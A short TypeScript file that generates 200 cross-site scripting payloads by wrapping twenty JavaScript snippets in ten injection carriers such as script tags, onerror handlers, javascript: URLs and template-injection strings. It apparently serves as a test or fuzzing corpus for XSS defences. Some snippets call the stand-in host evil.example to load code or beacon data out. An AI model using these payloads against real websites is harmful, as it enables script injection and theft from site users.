/** Twenty pieces of code that an attacker could try to run. */
const LOADS = [
  "alert(1)",
  "window.__ran=1",
  "top.__ran=1",
  "fetch('//evil.example')",
  "import('//evil.example/x.js')",
  "document.title='__ran'",
  "eval('__ran=1')",
  "Function('__ran=1')()",
  "setTimeout('__ran=1')",
  "location='javascript:__ran=1'",
  "parent.__ran=1",
  "document.write('<b id=__ran>')",
  "new Image().src='//evil.example/i'",
  "navigator.sendBeacon('//evil.example')",
  "window['__r'+'an']=1",
  "self.__ran=1//",
  "globalThis.__ran=1;",
  "onerror=alert;throw 1",
  "confirm`1`",
  "prompt(document.domain)",
];

/** Ten wrappers that run the code if a page treats text as markup, a URL or a script. */
const CARRIERS: Array<(load: string) => string> = [
  (load) => `<script>${load}</script>`,
  (load) => `"><img src=x onerror="${load}">`,
  (load) => `'><svg/onload='${load}'>`,
  (load) => `</title></style></script><script>${load}</script>`,
  (load) => `javascript:${load}`,
  (load) => `]]>--><iframe srcdoc="<script>${load}</script>">`,
  (load) => `</a><a href="javascript:${load}" autofocus onfocus="${load}">x`,
  (load) => `{{constructor.constructor("${load}")()}}\${${load}}<%= ${load} %>`,
  (load) => `&lt;script&gt;${load}&lt;/script&gt;&#x22; onmouseover=${load} x=&#34;`,
  (load) => `\u202E\u0000<math><mtext></form><form><mglyph><style></math><img src onerror=${load}>`,
];

/** 200 texts: each piece of code in each wrapper. */
export const PAYLOADS = CARRIERS.flatMap((carry) => LOADS.map(carry));
